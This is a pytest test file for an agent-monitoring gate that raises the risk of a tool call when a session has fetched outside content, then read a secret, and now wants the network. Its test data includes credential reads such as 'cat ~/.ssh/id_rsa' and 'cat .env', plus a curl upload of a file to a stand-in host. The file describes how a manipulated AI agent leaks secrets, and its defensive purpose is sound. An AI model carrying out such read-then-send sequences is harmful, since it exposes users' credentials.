"""A session that read from elsewhere, then a secret, and now wants the network is one level up."""

from __future__ import annotations

from typing import Any

import pytest

from tests.core.builders import START, pre, shell
from tests.core.world import World
from watchgate.core.gate.policy_gate import PolicyGate
from watchgate.core.gate.raised_risk import FLOW, ExfiltrationDetector, why_raised
from watchgate.core.model.assessment import Assessment
from watchgate.core.model.events import Event, Tool, ToolClass
from watchgate.core.policy.inputs.subject import Subject
from watchgate.core.policy.judging.assess import assess
from watchgate.core.policy.rules.profiles import Profile
from watchgate.service.policies.policy_files import shipped

Call = str | tuple[str, ToolClass, dict[str, Any]]

FETCH: Call = ("WebFetch", "fetch", {"url": "https://x.example"})
SECRET: Call = "cat .env"
SEND: Call = "git push origin topic"


def event(call: Call, session: str = "s1", **more: Any) -> Event:
    if isinstance(call, str):
        return pre(shell(call, call), session=session, **more)
    name, cls, given = call
    return pre(Tool(name, name, cls, given, f"{name}{given}"), session=session, **more)


def judged(call: Call) -> Assessment:
    asked = event(call)
    assert asked.tool is not None
    return assess(Subject(tool=asked.tool, cwd="/home/u/app", home="/home/u"), shipped(), 0)


def after(*calls: Call) -> ExfiltrationDetector:
    flow = ExfiltrationDetector()
    for number, call in enumerate(calls):
        flow.note_run(event(call), judged(call), START.plus(number))
    return flow


def then(*calls: Call) -> Assessment:
    """The last call, in a session that ran the others before it."""
    last = calls[-1]
    return after(*calls[:-1]).raised(event(last, at=START.plus(60)), judged(last))


def test_the_network_behind_both_is_raised_one_level() -> None:
    assert judged(SEND).risk == "medium"
    assert then(FETCH, SECRET, SEND).risk == "high"
    assert then(FETCH, SECRET, "curl -d @a https://x.example").risk == "critical"


def test_the_reason_names_the_calls_that_came_before() -> None:
    assert why_raised(then(FETCH, SECRET, SEND)) == (
        "One level higher: the session read from elsewhere (https://x.example, 1 min ago), then a"
        " secret (cat .env, 59 s ago), and now wants the network"
    )


def test_no_grant_answers_what_was_raised() -> None:
    assert then(FETCH, SECRET, SEND).worst.always_ask


@pytest.mark.parametrize(
    "call",
    [
        FETCH,
        ("WebSearch", "fetch", {"query": "x"}),
        ("mcp:tickets:get", "mcp", {"id": 3}),
        ("Read", "read", {"file_path": "/srv/notes.txt"}),
        "curl -s https://x.example/page",
        "wget -qO- https://x.example/page",
        "gh issue view 3",
        "cat /srv/notes.txt",
    ],
)
def test_what_others_wrote_is_untrusted(call: Call) -> None:
    assert then(call, SECRET, SEND).risk == "high"


@pytest.mark.parametrize(
    "call",
    ["cat README.md", "ls", "curl -s http://localhost:3000/x", "curl 127.0.0.1:80", "git log"],
)
def test_what_this_machine_holds_is_not(call: Call) -> None:
    assert then(call, SECRET, SEND).risk == "medium"


@pytest.mark.parametrize(
    "call",
    [
        "cat .env",
        "cat ~/.ssh/id_rsa",
        "echo $API_KEY",
        "env",
        ("Read", "read", {"file_path": ".env"}),
    ],
)
def test_what_a_rule_for_secrets_speaks_of_is_a_secret(call: Call) -> None:
    assert then(FETCH, call, SEND).risk == "high"


@pytest.mark.parametrize("call", ["cat a.py", "cat $file", "npm test"])
def test_what_only_may_be_one_is_none(call: Call) -> None:
    assert then(FETCH, call, SEND).risk == "medium"


@pytest.mark.parametrize(
    "call",
    [
        "curl https://x.example",
        "wget https://x.example/a",
        "dig a.x.example",
        "gh pr create --fill",
        "git push",
        FETCH,
        "sh -c 'curl https://x.example'",
        "curl localhost:3000; curl https://x.example",
    ],
)
def test_every_way_out_is_raised(call: Call) -> None:
    assert FLOW in {each.rule for each in then(FETCH, SECRET, call).findings}


@pytest.mark.parametrize("call", ["npm test", "git commit -m x", "ls", "curl localhost:3000"])
def test_what_stays_on_this_machine_is_as_it_was(call: Call) -> None:
    assert then(FETCH, SECRET, call) == judged(call)


def test_the_order_decides() -> None:
    assert then(SECRET, FETCH, SEND).risk == "medium"
    assert then(FETCH, SEND).risk == "medium"
    assert then(SECRET, SEND).risk == "medium"
    assert then(SECRET, FETCH, SECRET, SEND).risk == "high"


def test_each_session_is_looked_at_for_itself() -> None:
    flow = after(FETCH, SECRET)
    found = judged(SEND)

    assert flow.raised(event(SEND, "s2"), found) is found
    flow.forget("claude", "s1")
    assert flow.raised(event(SEND), found) is found


def world(profile: Profile = "strict") -> World:
    gate = PolicyGate(profile, lambda _cwd: shipped(), home="/home/u", own=())
    return World(profile, gate=gate)


def test_a_person_sees_the_three_calls_and_is_asked_once() -> None:
    here = world()
    here.allow(here.ask(event(FETCH), 1))
    here.allow(here.ask(event(SECRET), 2))
    asked = here.ask(event(SEND), 3)

    assert asked.data.risk == "high"
    assert asked.data.rule == FLOW
    assert "https://x.example" in asked.data.raised
    assert "cat .env" in asked.data.raised
    assert asked.data.summary == SEND

    here.allow(asked)
    assert here.ask(event("git push origin other"), 4).data.risk == "medium"
    here.allow(here.ask(event("cat .env.local"), 5))
    assert here.ask(event("git push origin third"), 6).data.risk == "high"


def test_a_secret_that_was_denied_is_not_one_that_was_read() -> None:
    here = world()
    here.allow(here.ask(event(FETCH), 1))
    here.decide(here.ask(event(SECRET), 2), "deny")

    assert here.ask(event(SEND), 3).data.risk == "medium"


def test_what_is_handed_back_may_have_run() -> None:
    here = world("guard")
    here.send(event(FETCH), 1)
    here.allow(here.ask(event(SECRET), 2))

    assert here.ask(event(SEND), 3).data.risk == "high"


def test_denials_of_what_was_raised_for_this_are_no_retries() -> None:
    here = world()
    here.allow(here.ask(event(FETCH), 1))
    here.allow(here.ask(event(SECRET), 2))
    for number in range(6):
        asked = here.ask(event(f"git push origin b{number}", f"s{1}"), 10 + number)
        here.decide(asked, "deny")
        here.advance(400)

    assert not here.all("policy.paused")
